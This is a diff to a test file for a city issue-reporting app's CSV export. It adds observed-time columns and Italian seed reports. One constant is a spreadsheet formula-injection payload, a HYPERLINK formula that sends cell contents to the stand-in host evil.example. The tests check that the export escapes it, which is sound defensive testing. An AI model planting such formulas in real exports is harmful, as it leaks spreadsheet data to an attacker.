@@ -13,9 +13,11 @@ const MAX_ROWS = 6;
 const COLUMNS = [
   'ticketCode', 'status', 'categoryId', 'category', 'reliability', 'priority', 'zone', 'zoneName', 'address',
   'lat', 'lng', 'channel', 'createdAt', 'takenAt', 'dispatchedAt', 'closedAt', 'outcome', 'confirmations', 'description',
+  'observedWhen', 'observedFrom', 'observedTo', 'observedEvery',
 ];
 const PHONE = '+393331234567';
 const CONFIRMER_PHONE = '+393339876543';
+const LAST_NIGHT = { from: new Date('2026-11-17T21:00:00Z'), to: new Date('2026-11-18T05:00:00Z') };
 const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"clic")';
 
 let app: TestApp;
@@ -72,6 +74,7 @@ beforeAll(async () => {
     citizenRef: 'reporter-citizen-ref',
     photoRefs: ['img_0123456789abcdef0123456789abcdef.jpg'],
     priority: 80,
+    observedWhen: { text: 'stanotte verso le due', kind: 'moment', from: LAST_NIGHT.from, to: LAST_NIGHT.to },
   });
   seeded.vandalism = await seedReport(app, {
     categoryId: 'vandalism',
@@ -88,6 +91,7 @@ beforeAll(async () => {
     description: '+39 sacchi, -2 ieri, @comune: ancora lì',
     channel: 'telegram',
     priority: 30,
+    observedWhen: { text: 'tutte le sere da una settimana', kind: 'recurring', every: 'evening', from: LAST_NIGHT.from },
   });
   seeded.closed = await seedReport(app, { categoryId: 'noise', zone: 'lunata', point: { lat: 43.8438, lng: 10.5526 }, description: 'Musica alta', priority: 10 });
   for (const [action, set] of [
@@ -175,8 +179,12 @@ describe('GET /api/reports/export.csv', () => {
       channel: 'whatsapp',
       createdAt: seeded.theft.createdAt.toISOString(),
       confirmations: '1',
-      // A sensitive category: the citizen's description may describe a person.
+      // A sensitive category: the citizen's description may describe a person; their time words too.
       description: '',
+      observedWhen: '',
+      observedFrom: LAST_NIGHT.from.toISOString(),
+      observedTo: LAST_NIGHT.to.toISOString(),
+      observedEvery: '',
     });
   });
 
@@ -187,6 +195,7 @@ describe('GET /api/reports/export.csv', () => {
     expect(vandalism.description).toBe(`'${FORMULA}`);
     const waste = rows.find((r) => r.ticketCode === seeded.waste.ticketCode)!;
     expect(waste.description).toBe(`'+39 sacchi, -2 ieri, @comune: ancora lì`);
+    expect(waste).toMatchObject({ observedWhen: 'tutte le sere da una settimana', observedFrom: LAST_NIGHT.from.toISOString(), observedTo: '', observedEvery: 'evening' });
     for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
   });
 
